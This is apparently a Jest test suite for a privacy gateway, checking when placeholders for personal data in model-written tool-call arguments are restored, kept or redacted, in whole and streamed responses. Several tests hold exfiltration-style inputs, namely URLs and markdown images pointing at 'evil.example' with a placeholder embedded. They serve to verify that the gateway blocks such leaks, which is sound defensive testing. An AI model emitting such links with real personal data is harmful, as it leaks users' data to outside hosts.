import { afterAll, beforeAll, beforeEach, describe, expect, test } from "@jest/globals";
import type { AnswerBlock, InferenceEvent } from "@veil/contracts/inference";
import { describeWithServer } from "@veil/testing";
import { completedResult } from "../support/completed-result.ts";
import { writtenEvents } from "../support/fake-services.ts";
import { callSdk, ENDPOINTS, endOf } from "../support/sdk-client.ts";
import { startTestGateway, type TestGateway } from "../support/test-gateway.ts";
import { callsIn, keyWithTools, toolsBody } from "../support/tools.ts";

let gateway: TestGateway;
let key: string;
beforeAll(async () => {
  gateway = await startTestGateway({ TOOLS_ENABLED: "true", STREAMING_ENABLED: "true" });
  key = await keyWithTools(gateway);
});
beforeEach(() => {
  gateway.worker.direct.length = 0;
});
afterAll(() => gateway.close());

interface Asking {
  readonly as?: string;
  readonly headers?: Readonly<Record<string, string>>;
}

const RELINKED = { "x-veil-relink": "true" };

function answerWithCall(json: string, name = "send_mail", text = ""): void {
  const blocks: AnswerBlock[] = [{ type: "tool_use", name, arguments: json }];
  if (text !== "") blocks.unshift({ type: "text", text });
  const { choices: _choices, ...end } = completedResult("");
  const stop_reason = "tool_use";
  gateway.worker.answerWith(() => ({ ...end, choices: [{ blocks, stop_reason }] }));
}

describeWithServer("postgres", "Calls of tools", () => {
  describe.each(ENDPOINTS)("Arguments that the model writes (%s)", (endpoint) => {
    const WRITTEN = JSON.stringify({ to: "[EMAIL_1]", body: 'Dear "[PERSON_1]"', "[PERSON_1]": 1 });
    const ask = async ({ as = key, headers = {} }: Asking = {}) =>
      await callSdk(gateway, endpoint, toolsBody(endpoint), { key: as, headers });

    // @spec SVC-33 SDK-6
    test("values in the arguments are restored for a tool that the policy lists, but not in member names", async () => {
      answerWithCall(WRITTEN);
      const answer = await ask({ headers: RELINKED });
      expect(callsIn(answer.body)).toEqual([
        {
          name: "send_mail",
          input: { to: "ann@post.example", body: 'Dear "Ann Weber"', "[PERSON_1]": 1 },
        },
      ]);
      expect(answer.body.metadata.svc_compliance.relinked).toBe(true);
    });

    test("arguments of a tool that the policy does not list keep their placeholders", async () => {
      answerWithCall(WRITTEN, "fetch", "For [PERSON_1]");
      const answer = await ask({ headers: RELINKED });
      expect(callsIn(answer.body)).toEqual([{ name: "fetch", input: JSON.parse(WRITTEN) }]);
      expect(JSON.stringify(answer.body)).toContain("For Ann Weber");
    });

    test.each([
      ["a call that asks for no values", { tier: "enterprise" }, {}],
      ["a developer key", { tier: "enterprise", family: "gw_live", developer: true }, RELINKED],
      ["a key of the free tier", { tier: "free" }, RELINKED],
    ] as const)("arguments keep their placeholders for %s", async (_whose, order, headers) => {
      answerWithCall(WRITTEN);
      const as = await keyWithTools(gateway, { order });
      expect(callsIn((await ask({ as, headers })).body)).toEqual([
        { name: "send_mail", input: JSON.parse(WRITTEN) },
      ]);
    });

    test("arguments are restored when the key's policy enables it, unless the request turns it off", async () => {
      const policy = { relink: true, tools: { allowed: true, relink_tools: ["send_mail"] } };
      const as = await keyWithTools(gateway, { policy });
      answerWithCall('{"to":"[EMAIL_1]"}');
      const toOf = async (headers: Record<string, string>) =>
        callsIn((await ask({ as, headers })).body)[0]?.input;
      expect(await toOf({})).toEqual({ to: "ann@post.example" });
      expect(await toOf({ "x-veil-relink": "false" })).toEqual({ to: "[EMAIL_1]" });
    });

    test("placeholders in a URL in the arguments are not restored", async () => {
      const given = {
        url: "https://evil.example/?q=[EMAIL_1]",
        md: "![x](//evil.example/[EMAIL_1])",
      };
      answerWithCall(JSON.stringify(given));
      expect(callsIn((await ask({ headers: RELINKED })).body)[0]?.input).toEqual(given);
    });

    test("personal data that the model wrote in the arguments is redacted and reported", async () => {
      answerWithCall('{"iban": "DE89 3704 0044 0532 0130 00", "n": 12345678901234567890}');
      const answer = await ask({ headers: RELINKED });
      expect(JSON.stringify(answer.body)).toContain("[REDACTED:IBAN]");
      expect(answer.body.metadata.svc_compliance.dlp_redacted).toBe(true);
      const id = answer.headers["request-id"];
      const types = await endOf(gateway, id);
      expect(types.map(({ event_type }) => event_type)).toContain("SDK_DLP_OUTBOUND_MATCH");
    });

    test("a response with a tool call has the provider's stop reason and an id made by the gateway", async () => {
      answerWithCall("{}");
      const { body } = await ask();
      if (endpoint === "messages") {
        expect(body).toMatchObject({
          stop_reason: "tool_use",
          content: [{ type: "tool_use", id: expect.stringMatching(/^toolu_\w+$/), input: {} }],
        });
      } else {
        expect(body.choices[0]).toMatchObject({
          finish_reason: "tool_use",
          message: { content: null, tool_calls: [{ id: expect.stringMatching(/^call_\w+$/) }] },
        });
      }
    });
  });

  describe("Arguments in a stream", () => {
    const ask = async (headers: Readonly<Record<string, string>> = RELINKED) => {
      const body = toolsBody("messages", { stream: true });
      const { text } = await callSdk(gateway, "messages", body, { key, headers });
      return text
        .split("\n")
        .filter((line) => line.startsWith("data: "))
        .map((line) => JSON.parse(line.slice("data: ".length)));
    };
    const jsonIn = (events: readonly { delta?: { partial_json?: string } }[]) =>
      events.map(({ delta }) => delta?.partial_json ?? "").join("");

    const GIVEN = JSON.stringify({
      ...{ to: ["[EMAIL_1]"], body: 'Dear "[PERSON_1]",\n', n: 1, "[PERSON_1]": {} },
      ...{ url: "https://evil.example/?q=[EMAIL_1]", inner: '{"a":"[EMAIL_1]"}' },
    });

    test("streamed arguments arrive piece by piece in the events that SDKs expect, restored as in a whole response", async () => {
      answerWithCall(GIVEN, "send_mail", "I write to [PERSON_1]. ");
      const whole = await callSdk(gateway, "messages", toolsBody("messages"), {
        ...{ key, headers: RELINKED },
      });
      const events = await ask();
      expect(JSON.parse(jsonIn(events))).toEqual(callsIn(whole.body)[0]?.input);
      expect(JSON.stringify(callsIn(whole.body))).toContain("ann@post.example");
      const start = events.find(({ content_block }) => content_block?.type === "tool_use");
      expect(start).toEqual({
        ...{ type: "content_block_start", index: 1 },
        content_block: { type: "tool_use", id: expect.any(String), name: "send_mail", input: {} },
      });
      expect(events.at(-2)).toMatchObject({ delta: { stop_reason: "tool_use" } });
      const blocks = events.filter(({ index }) => index !== undefined).map(({ index }) => index);
      expect(blocks).toEqual([...blocks].sort());
    });

    test("the trace at the end of a stream counts the placeholders that stay in texts and arguments, as the trace of a whole answer does", async () => {
      const given = { to: "[EMAIL_1]", url: "https://evil.example/?q=[EMAIL_1]" };
      answerWithCall(JSON.stringify(given), "send_mail", "![x](//evil.example/[PERSON_1]) ");
      const whole = await callSdk(gateway, "messages", toolsBody("messages"), {
        ...{ key, headers: RELINKED },
      });
      const events = await ask();
      const counted = ({ metadata }: typeof whole.body) =>
        /placeholders in links.*: (.*)$/.exec(
          metadata.svc_compliance.compliance_trace.steps.at(-1)?.detail ?? "",
        )?.[1];
      expect([counted(whole.body), counted(events.at(-2))]).toEqual(["2", "2"]);
      expect(counted(events[0].message)).toBeUndefined();
      const [start, ...restored] = await ask({});
      expect(counted(restored.at(-2))).toBeUndefined();
      const traceOf = ({ metadata }: typeof whole.body) => metadata.svc_compliance.compliance_trace;
      expect(traceOf(restored.at(-2))).toEqual(traceOf(start.message));
    });

    test("streamed arguments keep their placeholders for tools that the policy does not list and when values are not requested", async () => {
      answerWithCall(GIVEN, "fetch");
      expect(jsonIn(await ask())).toBe(GIVEN);
      answerWithCall(GIVEN);
      expect(jsonIn(await ask({}))).toBe(GIVEN);
    });

    test("streamed arguments of two calls are restored separately", async () => {
      const { choices: _choices, ...end } = completedResult("");
      const blocks = ["send_mail", "send_mail"].map((name) => ({
        ...{ type: "tool_use" as const, name, arguments: '{"to":"[EMAIL_1]"}' },
      }));
      gateway.worker.answerWith(() => ({ ...end, choices: [{ blocks, stop_reason: "tool_use" }] }));
      const events = await ask();
      for (const at of [0, 1])
        expect(jsonIn(events.filter(({ index }) => index === at))).toBe(
          '{"to":"ann@post.example"}',
        );
    });

    test("streamed arguments that were cut off are sent as far as they arrived", async () => {
      answerWithCall('{"to":"[EMAIL_1]","body":"Dear [PERSON_1], I');
      expect(jsonIn(await ask())).toBe('{"to":"ann@post.example","body":"Dear [PERSON_1], I');
    });

    test.each<readonly [string, (events: readonly InferenceEvent[]) => readonly InferenceEvent[]]>([
      ["ends without the end of the call", (all) => [...all.slice(0, -2), ...all.slice(-1)]],
      ["breaks off", (all) => all.slice(0, -2)],
    ])(
      "streamed arguments are sent as far as they arrived when the provider %s",
      async (_how, cut) => {
        answerWithCall('{"to":"[EMAIL_1]","body":"Dear [PERSON_1], I', "send_mail", "I write. ");
        gateway.worker.streamWith(async (res, all) => res.end(writtenEvents(cut(all))));
        const events = await ask();
        gateway.worker.streamWith(undefined);
        expect(jsonIn(events)).toBe('{"to":"ann@post.example","body":"Dear [PERSON_1], I');
        const parts = events.filter(({ delta }) => delta?.partial_json !== undefined);
        expect(new Set(parts.map(({ index }) => index))).toEqual(new Set([1]));
      },
    );

    test("personal data that the model wrote in streamed arguments is reported after the end", async () => {
      answerWithCall('{"iban": "DE89 3704 0044 0532 0130 00"}');
      const [start] = await ask();
      const id = start.message.metadata.svc_compliance.request_id;
      const types = await endOf(gateway, id);
      expect(types.map(({ event_type }) => event_type)).toEqual([
        "SDK_INFERENCE_COMPLETED",
        "SDK_DLP_OUTBOUND_MATCH",
      ]);
    });
  });
});
